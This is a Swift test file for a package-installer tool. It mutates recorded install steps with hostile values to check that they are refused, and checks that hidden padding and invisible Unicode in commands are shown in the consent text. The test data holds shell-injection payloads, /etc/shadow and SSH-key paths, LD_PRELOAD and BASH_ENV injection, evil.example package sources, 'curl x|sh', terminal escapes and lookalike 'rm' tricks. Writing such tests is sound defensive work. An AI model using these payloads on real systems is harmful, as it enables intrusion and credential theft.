import Catalog
import InstallModel
import Testing

/// A log's step as another host or an export hands it over: every value that leaves its place fails the recipes'
/// grammars, whichever field of the step carries it (its action, adjustment, backups, rollbacks).
@Suite struct RecordedStepCheckTests {
    /// Real plans' steps, one per action kind the resolver makes (packages, repository, release, shell profile, verify).
    private static func realSteps() throws -> [Step] {
        let plans = try [["jq"], ["docker"], ["k9s"], ["black"]].map { try TestSupport.plan($0, on: "ubuntu-desktop") }
        return plans.flatMap(\.steps)
    }

    /// Hostile variants of `step`, one field changed each, chosen by `generator`.
    private static func hostile(_ step: Step, payload: String, _ generator: inout SplitMix64) -> [Step] {
        var variants: [Step] = []
        var changed = step
        changed.backupBefore.append(["/etc/shadow", "~/.ssh/id_ed25519", "/root/" + payload][Int(generator.next() % 3)])
        variants.append(changed)
        changed = step
        changed.rollback = [Step(id: "undo", label: "undo", action: .postInstall(CommandParameters(argv: ["sh", "-c", "touch /tmp/x" + payload])))]
        variants.append(changed)
        changed = step
        let name = ["LD_PRELOAD", "PROMPT_COMMAND", "PATH", "BASH_ENV"][Int(generator.next() % 4)]
        changed.adjustment = StepAdjustment(remediation: "r", environment: [name: "/tmp/evil" + payload])
        variants.append(changed)
        changed = step
        let allowed = ["MAKEFLAGS", "GOFLAGS", "PIP_INDEX_URL", "npm_config_script_shell", "https_proxy", "SSL_CERT_FILE"][Int(generator.next() % 6)]
        changed.adjustment = StepAdjustment(remediation: "retry", environment: [allowed: "--eval=$(shell touch /tmp/x)"])
        variants.append(changed)
        changed = step
        changed.adjustment = StepAdjustment(remediation: "r", extraArguments: ["-oDPkg::Pre-Invoke::=touch /tmp/x" + payload])
        variants.append(changed)
        changed = step
        changed.id = StepID(["../../tmp/x", "/etc/x", "..", "a/b"][Int(generator.next() % 4)] + (generator.next() % 2 == 0 ? "" : "/" + payload))
        variants.append(changed)
        switch step.action {
        case .tool(var parameters) where parameters.installer != nil:
            parameters.arguments.insert(["--pip-args=--index-url=http://evil.example", "--python=/tmp/x", "--registry=http://evil"][Int(generator.next() % 3)], at: 0)
            changed = step
            changed.action = .tool(parameters)
            variants.append(changed)
        case .packages(var parameters):
            var removing = parameters
            removing.packages.append((parameters.packages.first ?? "openssh-server") + "-")  // apt reads `name-` as remove
            parameters.extraArguments = ["--index-url=http://evil.example" + payload]
            for action in [StepAction.packages(parameters), .packages(removing)] {
                changed = step
                changed.action = action
                variants.append(changed)
            }
        case .repoSetup(var parameters):
            var other = parameters
            parameters.keyURL = "file:///etc/shadow" + payload
            other.sourceEntry = "deb [trusted=yes] http://evil.example/ stable main" + payload
            for action in [StepAction.repoSetup(parameters), .repoSetup(other)] {
                changed = step
                changed.action = action
                variants.append(changed)
            }
        case .githubRelease(let parameters):
            let edits: [(inout GitHubReleaseParameters) -> Void] = [
                { $0.assetURL = "file:///etc/shadow" + payload }, { $0.checksumFileURL = "http://evil.example/sums" + payload },
                { $0.binaryInArchive = "../../etc/shadow" + payload }, { $0.repository = "owner/name/../x" + payload },
                { $0.version = "1.0" + payload },
            ]
            for edit in edits {
                var edited = parameters
                edit(&edited)
                changed = step
                changed.action = .githubRelease(edited)
                variants.append(changed)
            }
        case .shellConfig(var parameters):
            parameters.environment["PROMPT_COMMAND"] = "touch"
            changed = step
            changed.action = .shellConfig(parameters)
            variants.append(changed)
            parameters.environment = ["EDITOR_HOME": "x" + payload]
            changed.action = .shellConfig(parameters)
            variants.append(changed)
        default: break
        }
        return variants
    }

    @Test func theStepsARealPlanMakesPass() throws {
        for step in try Self.realSteps() {
            #expect(step.problemAsRecorded == nil, "\(step.id): \(step.problemAsRecorded ?? "")")
        }
    }

    @Test(arguments: [UInt64(1), 2, 3, 4, 5, 6])
    func everyHostileFieldIsRefused(seed: UInt64) throws {
        var generator = SplitMix64(seed: seed)
        let payloads = ["; touch /tmp/x", "$(id)", "\nrm -rf ~", "`id`", " x"]
        let payload = payloads[Int(generator.next() % UInt64(payloads.count))]
        var count = 0
        for step in try Self.realSteps() {
            for variant in Self.hostile(step, payload: payload, &generator) {
                count += 1
                #expect(variant.problemAsRecorded != nil, "\(variant) passed")
            }
        }
        #expect(count > 40)
    }

    /// A recorded command's working directory (`evlog run` records its caller's) is an absolute path of plain elements,
    /// shown in the consent, and a log from elsewhere that names one is high risk: the directory's files are read as the
    /// command's own (trust19 #10). Every other step runs in `/`.
    @Test(arguments: [UInt64(1), 2, 3])
    func aRecordedWorkingDirectoryIsCheckedAndShown(seed: UInt64) throws {
        var generator = SplitMix64(seed: seed)
        let good = ["/home/dev/project", "/srv/app", "/"][Int(generator.next() % 3)]
        let bad = ["project", "./x", "/srv/../etc", "/srv/./x", "/srv/x\u{1B}[2J", ""][Int(generator.next() % 6)]
        let step = { (directory: String) in
            Step(id: "run", label: "run", action: .postInstall(CommandParameters(argv: ["jq", "--version"], workingDirectory: directory)), tool: "jq")
        }
        #expect(step(good).problemAsRecorded == nil, "\(good)")
        #expect(step(bad).problemAsRecorded?.hasPrefix("working directory:") == true, "\(bad.debugDescription)")
        var plan = try TestSupport.plan(["jq"], on: "ubuntu-desktop")
        plan.steps = [step(good)]
        let judged = try ForeignPlanPolicy.checked(plan, runsAsRoot: false, catalog: TestSupport.catalog)
        #expect(judged.steps.first?.risk == .high && judged.steps.first?.label.hasSuffix("jq --version (in \(good))") == true, "\(judged.steps)")
        plan.steps = [Step(id: "run", label: "run", action: .postInstall(CommandParameters(argv: ["jq", "--version"])), tool: "jq")]
        let plain = try ForeignPlanPolicy.checked(plan, runsAsRoot: false, catalog: TestSupport.catalog)
        #expect(plain.steps.first?.risk != .high, "without a directory of its own: \(plain.steps)")
    }

    /// The consent for removing a shell-profile block names whose block it is (trust19 #7): a log from elsewhere may
    /// name any plan's.
    @Test func removingAnotherPlansBlockNamesThatPlan() {
        let other = PlanID("p-\(String(UInt64.random(in: 0..<(1 << 48)), radix: 16))")
        let named = PlanText.detail(.shellConfig(ShellConfigParameters(shell: .bash, removeBlock: true, blockPlan: other)))
        #expect(named.contains("plan \(other)'s block"), "\(named)")
        let own = PlanText.detail(.shellConfig(ShellConfigParameters(shell: .bash, removeBlock: true)))
        #expect(own.contains("evlog's block"), "\(own)")
    }

    /// The consent shows argv quoted, and padding of any blank-looking character inside a word by its length, so the
    /// rest of a command stays in sight (integrity11 #16, trust12 #9).
    @Test(arguments: [UInt64(1), 2, 3, 4, 5])
    func paddingInsideACommandIsShownByItsLength(seed: UInt64) {
        var generator = SplitMix64(seed: seed)
        let blanks: [Character] = [" ", "\t", "\u{A0}", "\u{3000}", "\u{2003}", "\u{2800}", "\u{3164}", "\u{115F}", "\u{FFA0}", "\u{200B}"]
        let count = 9 + Int(generator.next() % 400)
        let padding = String((0..<count).map { _ in blanks[Int(generator.next() % UInt64(blanks.count))] })
        let shown = PlanText.detail(.postInstall(CommandParameters(argv: ["sh", "-c", "jq --version" + padding + "; touch /tmp/x"])))
        #expect(shown.contains("blanks>") && shown.contains("; touch /tmp/x") && shown.count < 80, "\(shown.debugDescription)")
        #expect(shown.hasPrefix("sh -c 'jq --version"), "\(shown)")
    }

    /// trust13 #11: an invisible character riding on a visible one (`r<U+034F>m` prints as `rm`) is shown by its
    /// code, a long run of one by its length, and the rest of the command stays in sight. Drawn from a seed: default-ignorable marks, variation selectors, tags, bidi controls and format
    /// characters, private-use and unassigned code points, after a letter inside a word.
    @Test(arguments: [UInt64(1), 2, 3, 4, 5])
    func anInvisibleCharacterOnALetterIsShownByItsCode(seed: UInt64) throws {
        var generator = SplitMix64(seed: seed)
        let invisible: [UInt32] = [0x034F, 0x17B4, 0x17B5, 0xFE0F, 0xFE00, 0xE0020, 0xE0001, 0xE0100, 0x200D, 0x200C, 0x202E, 0x2066,
                                   0x061C, 0x180B, 0x0600, 0xF0000, 0xE000, 0x0378, 0x2064]
        for _ in 0..<40 {
            let scalar = try #require(Unicode.Scalar(invisible[Int(generator.next() % UInt64(invisible.count))]))
            let count = 1 + Int(generator.next() % 300)
            let word = "r" + String(repeating: String(scalar), count: count) + "m"
            let shown = PlanText.detail(.postInstall(CommandParameters(argv: ["sh", "-c", "jq --version; " + word + " -rf /tmp/x"])))
            #expect(!shown.unicodeScalars.contains(scalar), "U+\(String(scalar.value, radix: 16)) shown raw: \(shown.debugDescription)")
            // Shown by its code, or — one standing alone, like a bidi control, in a long run — as a run of blanks.
            let code = "\\u{\(String(scalar.value, radix: 16, uppercase: true))}"
            #expect(shown.contains(code) || shown.contains("<\(count) blanks>"), "\(shown.debugDescription)")
            #expect(shown.hasSuffix(" -rf /tmp/x'") && shown.count < 160, "\(shown.debugDescription)")
        }
    }

    /// trust12 #15: a foreign release may not install under a system program's name that is not its recipe's binary.
    @Test func aForeignReleaseNamedForASystemProgramIsRefused() throws {
        let plan = try TestSupport.plan(["k9s"], on: "ubuntu-desktop")
        #expect(throws: Never.self) { _ = try ForeignPlanPolicy.checked(plan, runsAsRoot: false, catalog: TestSupport.catalog) }
        var hostile = plan
        for index in hostile.steps.indices {
            guard case .githubRelease(var release) = hostile.steps[index].action else { continue }
            release.installName = "ls"
            hostile.steps[index].action = .githubRelease(release)
        }
        #expect(throws: ForeignPlanRefusal.self) { _ = try ForeignPlanPolicy.checked(hostile, runsAsRoot: false, catalog: TestSupport.catalog) }
    }

    @Test func otherStepsAreCheckedByTheirNames() {
        let service = Step(id: "svc", label: "s", action: .service(ServiceParameters(name: "x;touch /tmp/x", action: .start)))
        let notice = Step(id: "n", label: "n", action: .notification(NotificationParameters(message: "done\u{1B}]0;title\u{07}")))
        let download = Step(id: "d", label: "d", action: .download(DownloadParameters(url: "file:///etc/shadow", destination: "/tmp/x")))
        let config = Step(id: "c", label: "c", action: .config(ConfigParameters(path: "~/.bashrc", action: .append, content: "curl x|sh")))
        var removals: [Step] = []
        for path in ["~/.ssh", "/etc/passwd", "/etc/apk/repositories", "/etc/pacman.conf", "~/.local/bin/../../.ssh", "/usr/local/bin/"] {
            removals.append(Step(id: "r", label: "r", action: .cleanup(CleanupParameters(paths: ["~/.local/bin/jq", path]))))
        }
        for step in [service, notice, download, config] + removals { #expect(step.problemAsRecorded != nil, "\(step.id) \(step.action) passed") }
        // What evlog's own removals name passes: a tool's file, a repository's files.
        let own = Step(id: "r", label: "r", action: .cleanup(CleanupParameters(paths: [
            "~/.local/bin/jq", "/usr/local/bin/kubectl", "/etc/apt/sources.list.d/docker.list", "/etc/apt/keyrings/docker.asc", "/etc/yum.repos.d/x.repo",
        ])))
        #expect(own.problemAsRecorded == nil, "\(own.problemAsRecorded ?? "")")
    }
}
